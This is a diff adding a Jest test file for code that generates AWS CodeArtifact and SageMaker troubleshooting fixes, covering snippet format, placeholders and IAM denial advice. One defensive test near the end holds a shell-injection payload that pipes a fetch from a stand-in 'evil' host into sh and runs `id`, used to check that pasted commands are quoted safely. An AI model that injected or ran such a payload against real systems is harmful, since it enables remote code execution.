@@ -1,0 +1,300 @@
+import { fixForWarning, type Advice } from './advice';
+import type { Failure } from '../../core/failure';
+import { fixFor } from './fix-for';
+import { policyFor } from '../policies/policies';
+import { FACTS, SAMPLES } from '../../../../testing/fixtures/diagnosis/fix-samples';
+import type { Fix } from '../../../protocol/fix';
+import { FixSchema } from '../../../protocol/fix';
+
+const ADVICE: readonly Advice[] = [
+  'public_path',
+  'dead_addresses',
+  'no_upstream',
+  's3_unreachable',
+  's3_denied'
+];
+
+const all: readonly (readonly [string, Fix | undefined])[] = [
+  ...SAMPLES.map(s => [s.name, fixFor(s.failure, s.facts)] as const),
+  ...ADVICE.map(a => [a, fixForWarning(a, FACTS)] as const)
+];
+
+/** Why these have no fix: a person ended the one; the other does not know yet what is wrong. */
+const WITHOUT = new Set(['cancelled', 'not_finished']);
+/** Why these have no command: nothing is to be run for them. */
+const WITHOUT_SNIPPETS =
+  /^(aws_fault|rejected|invalid_settings|endpoint_not_allowed|locked|file_changed|file_unreadable 2|file_unparsable 2|credentials_expired 3|denied .*session)/;
+
+describe('every fix', () => {
+  it.each(all)('%s', (name, fix) => {
+    if (WITHOUT.has(name.split(' ')[0] ?? '')) {
+      expect(fix).toBeUndefined();
+      return;
+    }
+    expect(FixSchema.parse(fix)).toEqual(fix);
+    const said = fix?.text ?? '';
+    expect(said).toMatch(/^([A-Z]|pip |vpce-|codeartifact\.).*[.]$/s);
+    expect(said).not.toMatch(/internet connection|undefined|\[object|!|please/i);
+    if (!WITHOUT_SNIPPETS.test(name)) {
+      expect(fix?.snippets.length).toBeGreaterThan(0);
+    }
+    for (const { title, text, language } of fix?.snippets ?? []) {
+      expect(title).not.toBe('');
+      // Typographic dashes and quotes made the article's own commands fail when pasted.
+      expect(text).not.toMatch(/[^\n\x20-\x7e]/);
+      expect(text).not.toMatch(/undefined|\[object|internet connection/i);
+      expect(text.endsWith('\n')).toBe(true);
+      if (language === 'json') {
+        expect(() => JSON.parse(text) as unknown).not.toThrow();
+      }
+    }
+  });
+});
+
+it('of a file that cannot be read shows its lines where they are known, and marks the wrong one', () => {
+  const failed = (more: object): Failure => ({
+    verdict: 'write_failed',
+    cause: 'file_unparsable',
+    summary: '',
+    evidence: { path: '~/.config/pip/pip.conf', line: 10, fix: 'Remove the line.', ...more }
+  });
+  const shown = fixFor(failed({ excerpt: ' 9  [global]\n10  what\n11' }), FACTS);
+  expect(shown?.snippets).toEqual([
+    { title: '~/.config/pip/pip.conf', language: 'ini', text: ' 9  [global]\n10  what\n11\n', mark: 2 }
+  ]);
+  expect(shown?.text).toContain('Remove the line. Then connect again.');
+  expect(fixFor(failed({}), FACTS)?.snippets[0].text).toContain("sed -n '8,12p' ");
+});
+
+describe('placeholders', () => {
+  it('are variables at the top of the snippet, each explained', () => {
+    for (const { text } of all.flatMap(([, fix]) => fix?.snippets ?? []).filter(s => s.language === 'bash')) {
+      for (const line of text.split('\n').filter(l => l.includes('REPLACE'))) {
+        expect(line).toMatch(/^[A-Z_]+=["A-Za-z0-9:/.-]*REPLACE[A-Za-z0-9/."-]* {2}# .+/);
+      }
+    }
+  });
+
+  it('are not needed where the notebook knows: role, Region, account, domain, repository, endpoint', () => {
+    const known = fixFor(
+      {
+        verdict: 'access_denied',
+        cause: 'denied',
+        summary: '',
+        evidence: { policyType: 'identity', action: 'codeartifact:GetAuthorizationToken' }
+      },
+      FACTS
+    );
+    const text = JSON.stringify(known);
+    expect(text).not.toContain('REPLACE');
+    for (const value of [
+      'SageMaker-DataScientist',
+      'eu-central-1',
+      '111122223333',
+      'analytics',
+      'isolatedsm'
+    ]) {
+      expect(text).toContain(value);
+    }
+  });
+
+  it('shrink to the notebook group when the endpoint can be found by its own address', () => {
+    const fix = fixFor(
+      {
+        verdict: 'timeout',
+        cause: 'tcp_silent',
+        summary: '',
+        evidence: { addressClass: 'private', addresses: ['10.0.1.41'] }
+      },
+      FACTS
+    );
+    const first = fix?.snippets[0]?.text ?? '';
+    expect(first.match(/REPLACE/g)).toHaveLength(1);
+    expect(first).toContain('NOTEBOOK_SG=sg-REPLACE');
+    expect(first).toContain('Values=10.0.1.41');
+  });
+
+  it('shrink to none where the VPC is found by the one address of its endpoint', () => {
+    const evidence = { addressClass: 'private', addresses: ['10.0.1.41'] };
+    const fix = fixFor({ verdict: 'refused', cause: 'tcp_refused', summary: '', evidence }, FACTS);
+    const zones = fix?.snippets.find(s => s.text.includes('list-hosted-zones-by-vpc'))?.text ?? '';
+    expect(zones).toContain('Values=10.0.1.41');
+    expect(zones).not.toContain('REPLACE');
+  });
+
+  it('shrink to none when the notebook instance is known', () => {
+    const fix = fixFor(
+      { verdict: 'timeout', cause: 'tcp_silent', summary: '', evidence: { addressClass: 'public' } },
+      { ...FACTS, notebookInstance: 'ds-lab-07' }
+    );
+    expect(
+      fix?.snippets
+        .filter(s => s.language === 'bash')
+        .map(s => s.text)
+        .join()
+    ).not.toContain('REPLACE');
+  });
+});
+
+describe('facts that are not known', () => {
+  const bare = {
+    ...FACTS,
+    domainOwner: '',
+    accountId: undefined,
+    roleArn: undefined,
+    apiHost: '',
+    repositoryHost: ''
+  };
+
+  it.each(SAMPLES.map(s => [s.name, s] as const))('leave no hole: %s', (_, sample) => {
+    const fix = fixFor(
+      { ...sample.failure, evidence: { ...sample.failure.evidence, principal: '' } },
+      { ...sample.facts, ...bare }
+    );
+    const text = [fix?.text, ...(fix?.snippets ?? []).map(s => s.text)].join('\n');
+    // An empty owner, host or ARN part that was pasted in as if it were a value.
+    expect(text).not.toMatch(/account ,|account :|\(\)|owner ,|:::|--[a-z-]+ ''|\(: /);
+  });
+
+  it("are the caller's own where CodeArtifact takes the caller's own", () => {
+    const fix = fixFor(
+      {
+        verdict: 'access_denied',
+        cause: 'denied',
+        summary: '',
+        evidence: { policyType: 'identity', action: 'codeartifact:GetAuthorizationToken' }
+      },
+      { ...FACTS, domainOwner: '' }
+    );
+    expect(JSON.stringify(fix)).toContain('arn:aws:codeartifact:eu-central-1:111122223333:domain/analytics');
+  });
+});
+
+describe('a denial', () => {
+  const denied = (evidence: Readonly<Record<string, unknown>>) =>
+    fixFor(
+      {
+        verdict: 'access_denied',
+        cause: 'denied',
+        summary: '',
+        evidence: { action: 'codeartifact:GetAuthorizationToken', ...evidence }
+      },
+      FACTS
+    );
+
+  it('is put before who can change that policy', () => {
+    const who = (policyType: string) => denied({ policyType })?.who;
+    expect(['identity', 'boundary', 'session', 'resource'].map(who)).toEqual(
+      Array(4).fill('identity administrator')
+    );
+    expect(who('vpc_endpoint')).toBe('network administrator');
+    expect(['scp', 'rcp'].map(who)).toEqual(Array(2).fill('organization administrator'));
+  });
+
+  it('that is explicit never offers an Allow', () => {
+    for (const policyType of ['identity', 'vpc_endpoint', 'resource', 'boundary', 'session', 'scp', 'rcp']) {
+      const fix = denied({ policyType, explicit: true });
+      expect(JSON.stringify(fix?.snippets)).not.toMatch(
+        /put-role-policy|put-\w+-permissions-policy|--policy-document|\\"Allow\\"/
+      );
+      expect(fix?.text).toMatch(/den(y|ies|ying)/i);
+    }
+  });
+
+  it('warns that a second one may follow', () => {
+    for (const policyType of [
+      'identity',
+      'vpc_endpoint',
+      'resource',
+      'scp',
+      'rcp',
+      'boundary',
+      'session',
+      'unknown'
+    ]) {
+      expect(denied({ policyType })?.text).toContain('a second denial may appear');
+    }
+    const refused = SAMPLES.filter(s => ['denied', 'index_denied'].includes(s.failure.cause));
+    expect(refused.length).toBeGreaterThan(90);
+    for (const { failure, facts } of [
+      ...refused,
+      { failure: { ...refused[0]!.failure, evidence: { action: 'kms:Decrypt' } }, facts: FACTS }
+    ]) {
+      expect([failure.evidence, fixFor(failure, facts)?.text]).toEqual([
+        failure.evidence,
+        expect.stringContaining('a second denial may appear')
+      ]);
+    }
+  });
+
+  it('of a list prints the one statement, and the policy of "policy --for role --listing"', () => {
+    const fix = denied({
+      policyType: 'identity',
+      action: 'codeartifact:ListPackages',
+      principal: FACTS.roleArn
+    });
+    expect(fix?.text).toContain('jupyter codeartifact policy --for role --listing');
+    const [statement, , whole] = fix?.snippets ?? [];
+    expect(JSON.parse(statement?.text ?? '')).toMatchObject({
+      Action: expect.arrayContaining(['codeartifact:ListPackages']),
+      Resource: 'arn:aws:codeartifact:eu-central-1:111122223333:repository/analytics/isolatedsm'
+    });
+    expect(JSON.parse(whole?.text ?? '')).toEqual(policyFor('role', FACTS, { listing: true }));
+    const other = denied({ policyType: 'identity', action: 'codeartifact:GetAuthorizationToken' });
+    expect(JSON.stringify(other)).not.toContain('ListPackages');
+    // The domain is what these two are judged on.
+    const owner = denied({ policyType: 'resource', action: 'codeartifact:ListRepositoriesInDomain' });
+    expect(JSON.stringify(owner)).toContain('put-domain-permissions-policy');
+  });
+
+  it('of sts:GetServiceBearerToken is never fixed in a resource policy, where it has no effect', () => {
+    for (const policyType of ['resource', 'unknown']) {
+      const fix = denied({ policyType, action: 'sts:GetServiceBearerToken' });
+      expect(JSON.stringify(fix)).not.toContain('permissions-policy');
+      expect(JSON.stringify(fix)).toContain('put-role-policy');
+    }
+  });
+
+  it('names the account that owns the domain for resource policies, and both sides between accounts', () => {
+    const fix = denied({
+      policyType: 'resource',
+      principal: 'arn:aws:sts::444455556666:assumed-role/Other/x'
+    });
+    expect(fix?.text).toContain('account 111122223333, which owns the domain');
+    expect(fix?.text).toContain('in account 444455556666 as well');
+    const same = denied({ policyType: 'resource', principal: FACTS.roleArn });
+    expect(same?.text).not.toContain('Between two accounts');
+    const { roleArn: _, accountId: __, ...nobody } = FACTS;
+    const evidence = { policyType: 'resource', action: 'codeartifact:ReadFromRepository' };
+    const failure = { verdict: 'access_denied', cause: 'denied', summary: '', evidence } as const;
+    expect(fixFor(failure, nobody)?.text).not.toContain('Between two accounts');
+  });
+
+  it('is for the caller that AWS named, with the path that only we know', () => {
+    const roleArn = 'arn:aws:iam::111122223333:role/service-role/SageMaker-DataScientist';
+    const evidence = {
+      policyType: 'vpc_endpoint',
+      action: 'codeartifact:GetAuthorizationToken',
+      principal: FACTS.roleArn
+    };
+    const failure = { verdict: 'access_denied', cause: 'denied', summary: '', evidence } as const;
+    expect(JSON.stringify(fixFor(failure, { ...FACTS, roleArn }))).toContain(roleArn);
+    const other = 'arn:aws:iam::111122223333:role/Another';
+    expect(JSON.stringify(fixFor(failure, { ...FACTS, roleArn: other }))).not.toContain(other);
+  });
+
+  it('cannot smuggle a command into what an administrator pastes', () => {
+    const evil = "x';curl${IFS}evil|sh;'$(id)`id`";
+    const fix = denied({
+      policyType: 'identity',
+      explicit: true,
+      action: evil,
+      resource: evil,
+      principal: `arn:aws:iam::111122223333:user/${evil}`
+    });
+    const text = fix?.snippets.find(s => s.language === 'bash')?.text ?? '';
+    // Within single quotes only '\'' ends them, and it begins them again.
+    const outside = text.replace(/'(?:[^']|'\\'')*'/g, '');
+    expect(outside).not.toMatch(/curl|`id`|\$\(id\)/);
+  });
+});
